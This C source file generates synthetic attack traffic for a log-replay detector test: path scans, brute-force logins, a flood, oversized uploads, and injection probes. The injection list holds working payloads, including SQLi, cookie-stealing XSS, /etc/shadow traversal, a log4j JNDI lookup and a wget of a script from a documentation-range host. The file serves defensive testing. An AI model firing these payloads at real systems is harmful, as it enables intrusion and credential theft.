/* The attacks `replay` plants among real access-log lines (see replay.h). Each imitates
 * the real thing it names, at the rates such tools run at: a directory scanner's word
 * list, a password guesser on one address and a botnet's slow guesses from thirty, a
 * single-client flood, sqlmap-style payloads, huge uploads, and on a busy JSON route
 * (2 req/s from 40 pollers, planted with its own ten minutes of normal traffic before and
 * five after) a ×20 latency regression and a burst of 5xx. Addresses are from the
 * documentation ranges (RFC 5737), so they never collide with a real log's clients:
 * 192.0.2.0/24 the busy route's pollers, 198.51.100.0/24 the botnet, 203.0.113.0/24
 * single attackers. */
#include <stdio.h>
#include <string.h>

#include "replay.h"
#include "scenarios.h"
#include "tg_random.h"

typedef struct planter {
    rp_list *l;
    uint64_t rng;
    int index;                 /* scenario index for the records */
    int failed;
} planter;

static void add(planter *p, int64_t ts, const char *ip, const char *method, const char *target,
                const char *ua, int status, int64_t req, int64_t resp, double ms, bool attack)
{
    if (rp_add(p->l, ts, ip, method, target, ua, status, req, resp, ms, attack ? p->index : -2) != 0)
        p->failed = 1;
}

static const char *const browsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"};

/* A busy JSON route: 40 pollers, 2 req/s overall, ten minutes before the incident and five
 * after it; during it `incident` changes latency or status. */
static void busy_route(planter *p, int64_t t0, int64_t incident_us, bool latency, rp_scenario *s)
{
    int64_t from = t0 - 600 * 1000000LL, to = t0 + incident_us + 300 * 1000000LL;
    snprintf(s->route, sizeof s->route, "/api/feed");
    snprintf(s->clients, sizeof s->clients, "192.0.2.0/24");
    for (int64_t t = from; t < to; t += (int64_t)(tg_uniform(&p->rng) * 1000000.0)) {
        char ip[32], target[64];
        int c = (int)tg_range(&p->rng, 1, 40);
        snprintf(ip, sizeof ip, "192.0.2.%d", c);
        snprintf(target, sizeof target, "/api/feed?since=%lld", (long long)(t / 1000000 - 30));
        bool in = t >= t0 && t < t0 + incident_us;
        double ms = tg_lognormal(&p->rng, 40, 0.35);
        int status = 200;
        int64_t bytes = 2000 + tg_range(&p->rng, 0, 6000);
        if (in && latency) {
            ms *= 20;
        } else if (in && tg_uniform(&p->rng) < 0.8) {
            status = (int[]){502, 503, 500}[tg_range(&p->rng, 0, 2)];
            ms = status == 500 ? tg_lognormal(&p->rng, 30, 0.3) : tg_lognormal(&p->rng, 2, 0.3);
            bytes = 150;
        }
        add(p, t, ip, "GET", target, browsers[c % 4], status, 0, bytes, ms, in);
        s->requests += in;
    }
    s->start_us = t0;
    s->end_us = t0 + incident_us;
}

static void scan(planter *p, int64_t t0, rp_scenario *s)
{
    static const char *const words[] = {
        "/.env", "/.git/config", "/.git/HEAD", "/.htaccess", "/.htpasswd", "/.svn/entries",
        "/.DS_Store", "/admin/", "/administrator/", "/admin.php", "/wp-admin/", "/wp-login.php",
        "/wp-config.php.bak", "/xmlrpc.php", "/phpmyadmin/", "/pma/", "/myadmin/", "/mysql/",
        "/server-status", "/server-info", "/cgi-bin/test.cgi", "/cgi-bin/php.cgi", "/backup.zip",
        "/backup.tar.gz", "/db.sql", "/dump.sql", "/database.sql", "/config.php", "/config.json",
        "/config.yml", "/settings.py", "/web.config", "/.aws/credentials", "/id_rsa", "/login.jsp",
        "/manager/html", "/jmx-console/", "/console/", "/actuator/env", "/actuator/health",
        "/api/swagger.json", "/swagger-ui.html", "/v2/api-docs", "/graphql", "/solr/admin/",
        "/jenkins/login", "/owa/", "/autodiscover/autodiscover.xml", "/remote/login",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/shell.php", "/cmd.php",
        "/test.php", "/info.php", "/phpinfo.php", "/old/", "/temp/", "/tmp/", "/logs/", "/debug/"};
    int n = (int)(sizeof words / sizeof *words);
    int64_t t = t0;
    for (int i = 0; i < n; i++, t += (int64_t)(tg_lognormal(&p->rng, 0.2, 0.3) * 1e6)) {
        int status = strncmp(words[i], "/.ht", 4) == 0 ? 403 : 404;
        add(p, t, "203.0.113.10", "GET", words[i],
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", status,
            0, 196 + (int64_t)strlen(words[i]), tg_lognormal(&p->rng, 1.5, 0.3), true);
    }
    snprintf(s->clients, sizeof s->clients, "203.0.113.10");
    snprintf(s->route, sizeof s->route, "(%d paths)", n);
    s->requests = n;
    s->start_us = t0;
    s->end_us = t;
}

/* Failed form logins (401) to /login: from one address fast, or from thirty slowly. */
static void brute(planter *p, int64_t t0, bool distributed, rp_scenario *s)
{
    int n = distributed ? 240 : 120;
    double gap_s = distributed ? 0.33 : 0.5;    /* 3 req/s overall, or 2 req/s from one */
    int64_t t = t0;
    for (int i = 0; i < n; i++, t += (int64_t)(tg_lognormal(&p->rng, gap_s, 0.4) * 1e6)) {
        char ip[32];
        if (distributed)
            snprintf(ip, sizeof ip, "198.51.100.%d", 10 + (int)tg_range(&p->rng, 0, 29));
        else
            snprintf(ip, sizeof ip, "203.0.113.20");
        add(p, t, ip, "POST", "/login", distributed ? browsers[i % 4] : "Mozilla/4.0 (Hydra)",
            401, 30 + tg_range(&p->rng, 0, 20), 180, tg_lognormal(&p->rng, 60, 0.2), true);
    }
    snprintf(s->clients, sizeof s->clients, distributed ? "198.51.100.10-39" : "203.0.113.20");
    snprintf(s->route, sizeof s->route, "/login");
    s->requests = n;
    s->start_us = t0;
    s->end_us = t;
}

static void flood(planter *p, int64_t t0, rp_scenario *s)
{
    int n = 1000;     /* 50 req/s for 20 s */
    for (int i = 0; i < n; i++)
        add(p, t0 + i * 20000LL, "203.0.113.30", "GET", "/", "Go-http-client/1.1", 200, 0, 8260,
            tg_lognormal(&p->rng, 8, 0.5), true);
    snprintf(s->clients, sizeof s->clients, "203.0.113.30");
    snprintf(s->route, sizeof s->route, "/");
    s->requests = n;
    s->start_us = t0;
    s->end_us = t0 + n * 20000LL;
}

/* sqlmap-style probing of a search parameter, then XSS, traversal, log4j and command
 * payloads: what an automated scanner sends after it found a parameter. */
static void injection(planter *p, int64_t t0, rp_scenario *s)
{
    static const char *const targets[] = {
        "/search?q=puppet%27", "/search?q=puppet%27%20AND%201%3D1--%20-",
        "/search?q=puppet%27%20OR%20%271%27%3D%271", "/search?q=puppet%22%20OR%201%3D1--",
        "/search?q=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT(username%2Cpassword)%20FROM%20users--%20-",
        "/search?q=1%27%20AND%20SLEEP(5)--%20-", "/search?q=1%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--",
        "/search?q=1%27%20AND%20EXTRACTVALUE(1%2CCONCAT(0x5c%2Cversion()))--%20-",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/search?q=javascript%3Aalert(1)", "/static/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/download?file=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow",
        "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.99%3A1389%2Fa%7D",
        "/search?q=test%3Bcat%20%2Fetc%2Fpasswd", "/search?q=test%7Cid",
        "/search?q=%60wget%20http%3A%2F%2F198.51.100.99%2Fx.sh%60",
        "/cgi-bin/status?x=()%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fbash%20-c%20id"};
    int n = (int)(sizeof targets / sizeof *targets);
    int64_t t = t0;
    for (int i = 0; i < n; i++, t += (int64_t)(tg_lognormal(&p->rng, 0.6, 0.4) * 1e6)) {
        int status = (int[]){200, 200, 404, 500}[tg_range(&p->rng, 0, 3)];
        add(p, t, "203.0.113.40", "GET", targets[i], "sqlmap/1.7.2#stable (https://sqlmap.org)",
            status, 0, status == 200 ? 5120 : 210, tg_lognormal(&p->rng, 20, 0.5), true);
    }
    snprintf(s->clients, sizeof s->clients, "203.0.113.40");
    snprintf(s->route, sizeof s->route, "/search and others");
    s->requests = n;
    s->start_us = t0;
    s->end_us = t;
}

static void oversized(planter *p, int64_t t0, rp_scenario *s)
{
    for (int i = 0; i < 3; i++)
        add(p, t0 + i * 10000000LL, "203.0.113.50", "POST", "/upload", "curl/8.4.0", 413,
            20000000 + tg_range(&p->rng, 0, 40000000), 220, tg_lognormal(&p->rng, 900, 0.3), true);
    snprintf(s->clients, sizeof s->clients, "203.0.113.50");
    snprintf(s->route, sizeof s->route, "/upload");
    s->requests = 3;
    s->start_us = t0;
    s->end_us = t0 + 20000000LL;
}

static const struct {
    const char *expect, *description;
} about[TG_SC_COUNT] = {
    [TG_SC_LATENCY] = {"latency_regression,response_time_spike",
                   "x20 latency for 2 min on a busy JSON route (2 req/s from 40 pollers)"},
    [TG_SC_5XX] = {"error_rate_spike,server_error",
               "80 % 5xx for 60 s on a busy JSON route (2 req/s from 40 pollers)"},
    [TG_SC_SCAN] = {"endpoint_scan", "60 well-known paths at ~5 req/s from one address (403/404)"},
    [TG_SC_BRUTE] = {"brute_force", "120 failed logins (401) at 2 req/s from one address"},
    [TG_SC_BRUTE_DIST] = {"brute_force,distributed_brute_force",
                      "240 failed logins (401) at 3 req/s from 30 addresses"},
    [TG_SC_FLOOD] = {"request_flood", "1,000 requests at 50 req/s from one address"},
    [TG_SC_INJECTION] = {"sql_injection,xss,path_traversal,injection_attempt",
                     "18 sqlmap-style SQLi, XSS, traversal, log4j and command payloads"},
    [TG_SC_OVERSIZED] = {"large_request", "3 uploads of 20-60 MB (413)"},
};

int rp_plant(rp_list *l, unsigned mask, int64_t start_us, int64_t gap_us, uint64_t seed,
             rp_scenario *plan)
{
    planter p = {.l = l, .rng = seed ? seed : 1};
    int n = 0;
    int64_t t = start_us;
    for (int k = 0; k < TG_SC_COUNT; k++) {
        if (!(mask & (1u << k)))
            continue;
        rp_scenario *s = &plan[n];
        memset(s, 0, sizeof *s);
        p.index = n;
        s->name = tg_scenario_names[k];
        s->expect = about[k].expect;
        s->description = about[k].description;
        switch (k) {
        case TG_SC_LATENCY: busy_route(&p, t, 120 * 1000000LL, true, s); break;
        case TG_SC_5XX: busy_route(&p, t, 60 * 1000000LL, false, s); break;
        case TG_SC_SCAN: scan(&p, t, s); break;
        case TG_SC_BRUTE: brute(&p, t, false, s); break;
        case TG_SC_BRUTE_DIST: brute(&p, t, true, s); break;
        case TG_SC_FLOOD: flood(&p, t, s); break;
        case TG_SC_INJECTION: injection(&p, t, s); break;
        default: oversized(&p, t, s); break;
        }
        n++;
        t += gap_us;
    }
    return p.failed ? -1 : n;
}
